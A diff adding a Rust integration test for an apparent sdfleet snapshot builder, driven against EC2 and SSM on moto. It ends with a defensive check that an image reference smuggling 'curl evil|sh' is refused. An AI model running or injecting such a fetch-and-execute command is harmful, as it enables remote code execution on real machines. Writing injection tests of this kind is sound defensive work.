@@ -1,6 +1,6 @@
 //! The testbed's AWS APIs (moto on loopback), driven through the AWS SDK for Rust the
 //! same way sdfleet drives them: S3, S3 event notifications to SQS, EC2 lookup by tag,
-//! and SSM SendCommand with its invocation result.
+//! SSM SendCommand with its invocation result, and the image snapshot builder.
 
 mod support;
 
@@ -203,4 +203,107 @@ async fn ec2_instances_found_by_tag_and_ssm_command_recorded() {
             Some(&aws_sdk_ssm::types::CommandInvocationStatus::Success)
         );
     }
+}
+
+/// `sdfleet snapshot` against EC2 and SSM on moto: one instance launched from the AMI
+/// with the data volume asked for, the pulls sent to it as SSM commands, its data
+/// volume snapshotted once it stopped, and the instance terminated. (moto runs no
+/// instance: the pull itself is the real Bottlerocket's, not shown here.)
+#[tokio::test]
+async fn the_image_snapshot_builder_pulls_snapshots_the_data_volume_and_terminates() {
+    use sdfleet::image_snapshot::{BUILD_TAG, SnapshotBuilder, SnapshotError, SnapshotRequest};
+    let aws = Testbed::get().aws().await;
+    let ec2 = aws_sdk_ec2::Client::new(&aws);
+    let ssm = aws_sdk_ssm::Client::new(&aws);
+    let mut builder = SnapshotBuilder::new(&aws);
+    builder.poll = Duration::from_millis(100);
+    builder.deadline = Duration::from_secs(30);
+    let ami = ec2.describe_images().send().await.unwrap().images()[0]
+        .image_id()
+        .unwrap()
+        .to_string();
+    let name = format!("tb-snap-{}", unique_suffix());
+    let image = "111122223333.dkr.ecr.us-west-2.amazonaws.com/comfyui:1.2".to_string();
+    let request = SnapshotRequest {
+        name: name.clone(),
+        images: vec![image.clone(), "busybox:1.36".into()],
+        ami,
+        instance_type: "m6i.xlarge".into(),
+        instance_profile: None,
+        subnet: None,
+        security_groups: vec![],
+        volume_gib: 80,
+        registry_auth: Some("AWS:token".into()),
+    };
+    let built = builder.build(&request).await.unwrap();
+
+    let snapshot = ec2
+        .describe_snapshots()
+        .snapshot_ids(&built.snapshot_id)
+        .send()
+        .await
+        .unwrap();
+    let snapshot = &snapshot.snapshots()[0];
+    assert_eq!(snapshot.volume_size(), Some(80), "{snapshot:?}");
+    assert!(
+        snapshot
+            .tags()
+            .iter()
+            .any(|t| t.key() == Some(BUILD_TAG) && t.value() == Some(name.as_str())),
+        "{snapshot:?}"
+    );
+    assert!(snapshot.description().unwrap().contains(&image));
+    let instance = ec2
+        .describe_instances()
+        .instance_ids(&built.instance_id)
+        .send()
+        .await
+        .unwrap();
+    let instance = &instance.reservations()[0].instances()[0];
+    assert_eq!(
+        instance.state().and_then(|s| s.name()),
+        Some(&aws_sdk_ec2::types::InstanceStateName::Terminated)
+    );
+    let commands = ssm
+        .list_commands()
+        .instance_id(&built.instance_id)
+        .send()
+        .await
+        .unwrap();
+    let pulls: Vec<String> = commands
+        .commands()
+        .iter()
+        .flat_map(|c| {
+            c.parameters()
+                .and_then(|p| p.get("commands"))
+                .cloned()
+                .unwrap_or_default()
+        })
+        .collect();
+    assert_eq!(pulls.len(), 2, "{pulls:?}");
+    assert!(
+        pulls[0].ends_with(&format!("--user AWS:token {image}")),
+        "{pulls:?}"
+    );
+
+    // An image reference a shell would run is refused before anything is launched.
+    let before = ec2.describe_instances().send().await.unwrap();
+    let count = |out: &aws_sdk_ec2::operation::describe_instances::DescribeInstancesOutput| {
+        out.reservations()
+            .iter()
+            .map(|r| r.instances().len())
+            .sum::<usize>()
+    };
+    let hostile = SnapshotRequest {
+        images: vec!["comfyui;curl evil|sh".into()],
+        ..request
+    };
+    assert!(matches!(
+        builder.build(&hostile).await,
+        Err(SnapshotError::BadImage(_))
+    ));
+    assert_eq!(
+        count(&ec2.describe_instances().send().await.unwrap()),
+        count(&before)
+    );
 }
